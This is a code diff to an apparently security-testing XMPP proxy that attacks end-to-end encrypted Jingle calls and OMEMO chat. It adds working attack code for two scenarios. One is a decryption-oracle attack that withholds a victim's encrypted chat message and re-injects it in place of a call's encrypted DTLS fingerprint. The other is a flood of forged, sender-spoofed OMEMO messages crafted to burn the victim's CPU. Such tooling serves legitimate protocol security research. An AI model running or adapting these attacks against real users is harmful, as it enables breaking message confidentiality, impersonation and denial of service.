@@ -50,6 +50,16 @@ carbon <sent/>/<received/>):
                        the original, which is delivered (--original deliver) or dropped (drop); the
                        victim's IQ answers to the forged sender are swallowed
   replace-candidates   every ICE candidate's ip/port set to --attacker-addr (also in transport-info)
+  inject-message       the decryption-oracle attack: the first OMEMO chat message delivered to
+                       --withhold-to (a bare JID) is withheld, and its <encrypted/> is put in place
+                       of the encrypted DTLS fingerprint of the first Jingle IQ delivered to the
+                       victim (same sender device and session, next counter: it decrypts)
+  flood                (aimed at the victim's connection) once a session-accept reached the
+                       caller, --flood-rate forged OMEMO messages a second for --flood-seconds, each
+                       "from" the call's peer (its full JID and OMEMO device) with the most keys for
+                       the victim's device a client tries, each a SignalMessage on a fresh ratchet
+                       key --flood-counter steps into its chain and a MAC that never verifies: the
+                       most CPU a stanza may cost the victim; reports {"flood": "done", "sent": N}
   media-mitm           (both sides; needs aiortc) the attacker's own DTLS-SRTP endpoint: per session
                        one aiortc peer answers the caller's offer and one offers to the callee; the
                        session-initiate to the callee and the session-accept to the caller get the
@@ -103,6 +113,8 @@ SCENARIOS = (
     "forge-from-jid",
     "replace-candidates",
     "media-mitm",
+    "inject-message",
+    "flood",
 )
 
 # A made-up attacker certificate digest (SHA-256 of a fixed string), in the uppercase
@@ -474,6 +486,87 @@ class Replayer:
         return substitute_fingerprints(st, fps)
 
 
+def chat_encrypted(st: El) -> Optional[El]:
+    """The OMEMO <encrypted/> (with a payload) of a chat message that is not about calls."""
+    if st.tag != "message" or st.get("type") == "error" or jmi(st) is not None:
+        return None
+    enc = st.find("encrypted", NS_OMEMO)
+    if enc is None or enc.find("payload") is None:
+        return None
+    return enc
+
+
+class Injector:
+    """inject-message: a withheld chat message's <encrypted/>, put into the first encrypted
+    fingerprint delivered to the victim."""
+
+    def __init__(self) -> None:
+        self.stored: Optional[El] = None
+        self.used = False
+
+    def withhold(self, st: El) -> bool:
+        """Keeps the first OMEMO chat message instead of delivering it."""
+        enc = chat_encrypted(st)
+        if self.stored is not None or enc is None:
+            return False
+        self.stored = enc.copy()
+        return True
+
+    def rewrite(self, st: El) -> Optional[El]:
+        if self.stored is None or self.used:
+            return None
+        out = st.copy()
+        fps = encrypted_fingerprints(out)
+        if not fps:
+            return None
+        stored = self.stored.copy()
+        stored.attrs["xmlns"] = NS_OMEMO
+        fps[0].children = [stored if c.tag == "encrypted" else c for c in fps[0].children]
+        self.used = True
+        return out
+
+
+def protobuf_bytes(field: int, value: bytes) -> bytes:
+    return bytes([field << 3 | 2]) + varint(len(value)) + value
+
+
+def varint(n: int) -> bytes:
+    out = bytearray()
+    while True:
+        b = n & 0x7F
+        n >>= 7
+        out.append(b | (0x80 if n else 0))
+        if not n:
+            return bytes(out)
+
+
+def forged_signal_message(counter: int) -> bytes:
+    """A Signal v3 SignalMessage on a fresh random ratchet key with a random MAC: a receiver
+    does a DH ratchet step and walks `counter` chain steps before the MAC check fails."""
+    import os
+
+    proto = (
+        protobuf_bytes(1, b"\x05" + os.urandom(32))
+        + bytes([2 << 3]) + varint(counter)
+        + bytes([3 << 3]) + varint(0)
+        + protobuf_bytes(4, os.urandom(48))
+    )
+    return b"\x33" + proto + os.urandom(8)
+
+
+def flood_message(frm: str, to: str, sid: int, rid: int, keys: int, counter: int, n: int) -> bytes:
+    import base64
+    import os
+
+    b64 = lambda b: base64.b64encode(b).decode()  # noqa: E731
+    key_els = "".join(f"<key rid='{rid}'>{b64(forged_signal_message(counter))}</key>" for _ in range(keys))
+    return (
+        f"<message xmlns='{NS_CLIENT}' type='chat' from='{frm}' to='{to}' id='mitm-flood-{n}'>"
+        f"<encrypted xmlns='{NS_OMEMO}'><header sid='{sid}'>{key_els}<iv>{b64(os.urandom(12))}</iv></header>"
+        f"<payload>{b64(os.urandom(32))}</payload></encrypted><store xmlns='urn:xmpp:hints'/></message>"
+    ).encode()
+
+
 def is_session_accept(st: El) -> bool:
     j = jingle(st)
     return j is not None and j.get("action") == "session-accept"
@@ -539,6 +632,11 @@ class Options:
     original: str = "deliver"
     ack_dropped: bool = False
     tone: float = 660.0
+    withhold_to: Optional[str] = None
+    flood_rate: float = 50.0
+    flood_seconds: float = 3.0
+    flood_keys: int = 2
+    flood_counter: int = 311
 
 
 @dataclass
@@ -556,13 +654,16 @@ class Scenario:
             raise ValueError(f"unknown scenario {opts.scenario!r}")
         self.o = opts
         self.replayer = Replayer()
+        self.injector = Injector()
 
     def apply(self, st: El) -> Optional[Outcome]:
         """The rewrite for a stanza delivered to the victim, or None to forward it unchanged."""
         o, name = self.o, self.o.scenario
         one = lambda new, detail: None if new is None else Outcome([new], detail)  # noqa: E731
-        if name in ("passthrough", "media-mitm"):  # media-mitm: see Proxy.on_element
+        if name in ("passthrough", "media-mitm", "flood"):  # see Proxy.on_element
             return None
+        if name == "inject-message":
+            return one(self.injector.rewrite(st), "the withheld chat message's <encrypted/> put in as the fingerprint")
         if name == "strip-device":
             return one(strip_device(st), "removed <device/> from <proceed/>")
         if name == "change-device":
@@ -1169,6 +1270,11 @@ class Proxy:
         self.next_id = 0
         self.tasks: set = set()
         self.media: Optional[MediaMitm] = MediaMitm(opts.tone) if opts.scenario == "media-mitm" else None
+        # flood: what it learns of the call (devices, the caller's full JID), and its task.
+        self.devices: Dict[str, int] = {}
+        self.caller_jid = ""
+        self.callee_jid = ""
+        self.flood_task: Optional[asyncio.Task] = None
 
     def log_event(self, conn: Connection, direction: str, action: str, xml: str) -> None:
         if self.log:
@@ -1241,6 +1347,16 @@ class Proxy:
 
         if self.media is not None:
             return self._media_element(conn, direction, st, raw, name)
+        if (
+            self.opts.scenario == "inject-message"
+            and bare(conn.jid) == self.opts.withhold_to
+            and self.scenario.injector.withhold(st)
+        ):
+            self._emit_rewrite(conn, direction, st, "withheld an OMEMO chat message")
+            self._log_raw(conn, direction, "dropped", raw, name)
+            return b""
+        if self.opts.scenario == "flood":
+            self._flood_learn(conn, st)
         out = None
         if self.opts.scenario != "passthrough" and self.role_of(conn, st) == self.opts.victim:
             out = self.scenario.apply(st)
@@ -1309,6 +1425,57 @@ class Proxy:
                 "detail": detail,
             }
         )
+
+    def _flood_learn(self, conn: Connection, st: El) -> None:
+        """Learns the caller's device (header sid of the initiate's encrypted fingerprint), the
+        callee's (the <device/> of the proceed) and starts the flood when the caller gets the
+        session-accept."""
+        kind = kind_of(st)
+        if kind == "session-initiate":
+            for fp in encrypted_fingerprints(st):
+                enc = fp.find("encrypted", NS_OMEMO)
+                h = enc.find("header") if enc is not None else None
+                if h is not None and (h.get("sid") or "").isdigit():
+                    self.devices["caller"] = int(h.get("sid") or "0")
+                    self.caller_jid = st.get("from") or ""
+        elif kind == "proceed":
+            for m in messages(st):
+                p = jmi(m)
+                for d in p.findall("device") if p is not None else []:
+                    if (d.get("id") or "").isdigit():
+                        self.devices["callee"] = int(d.get("id") or "0")
+                        self.callee_jid = m.get("from") or ""
+        elif kind == "session-accept" and self.flood_task is None and self.role_of(conn, st) == "caller":
+            victim = self.opts.victim
+            target_jid = self.callee_jid if victim == "callee" else (st.get("to") or conn.jid or "")
+            frm = self.caller_jid if victim == "callee" else (st.get("from") or "")
+            sender_dev = self.devices.get("caller" if victim == "callee" else "callee")
+            rid = self.devices.get(victim)
+            target = next((c for c in self.conns if c.jid == target_jid), None)
+            if target is None or sender_dev is None or rid is None:
+                emit({"flood": "cannot", "devices": self.devices, "target": target_jid})
+                return
+            self.flood_task = asyncio.ensure_future(self._flood(target, frm, sender_dev, rid))
+            self.tasks.add(self.flood_task)
+
+    async def _flood(self, target: Connection, frm: str, sid: int, rid: int) -> None:
+        o = self.opts
+        n = 0
+        start = time.monotonic()
+        try:
+            while time.monotonic() - start < o.flood_seconds:
+                due = start + n / o.flood_rate
+                delay = due - time.monotonic()
+                if delay > 0:
+                    await asyncio.sleep(delay)
+                raw = flood_message(frm, target.jid or "", sid, rid, o.flood_keys, o.flood_counter, n)
+                target.client_writer.write(raw)
+                self._log_raw(target, "to-client", "injected", raw, "message")
+                n += 1
+        finally:
+            emit({"rewrote": "flood", "direction": "to-client", "client": target.label, "stanza": "message",
+                  "sid": None, "from": frm, "detail": f"{n} forged messages", "flood": "done", "sent": n,
+                  "seconds": round(time.monotonic() - start, 2)})
 
     def _ack(self, victim: Connection, st: El) -> None:
         """Answers a dropped IQ to its sender in the victim's name."""
@@ -1412,6 +1579,11 @@ def parse_args(argv: Optional[Sequence[str]] = None) -> Tuple[argparse.Namespace
     ap.add_argument("--original", choices=("deliver", "drop"), default="deliver", help="forge-*: also deliver the genuine stanza (after the forged one) or drop it")
     ap.add_argument("--tone", type=float, default=660.0, help="media-mitm: the attacker's tone to both sides (Hz)")
     ap.add_argument("--ack-dropped", action="store_true", help="drop-session-accept: answer the sender with an IQ result in the victim's name")
+    ap.add_argument("--withhold-to", help="inject-message: the bare JID whose first OMEMO chat message is withheld")
+    ap.add_argument("--flood-rate", type=float, default=50.0, help="flood: forged messages per second")
+    ap.add_argument("--flood-seconds", type=float, default=3.0, help="flood: for how long")
+    ap.add_argument("--flood-keys", type=int, default=2, help="flood: keys for the victim's device per message")
+    ap.add_argument("--flood-counter", type=int, default=311, help="flood: chain steps each key makes the victim walk")
     a = ap.parse_args(argv)
     ip, _, port = a.attacker_addr.rpartition(":")
     opts = Options(
@@ -1426,7 +1598,15 @@ def parse_args(argv: Optional[Sequence[str]] = None) -> Tuple[argparse.Namespace
         original=a.original,
         ack_dropped=a.ack_dropped,
         tone=a.tone,
+        withhold_to=a.withhold_to,
+        flood_rate=a.flood_rate,
+        flood_seconds=a.flood_seconds,
+        flood_keys=a.flood_keys,
+        flood_counter=a.flood_counter,
     )
+    if opts.scenario == "inject-message" and not opts.withhold_to:
+        ap_error = "inject-message needs --withhold-to JID"
+        raise SystemExit(ap_error)
     return a, opts
 
 
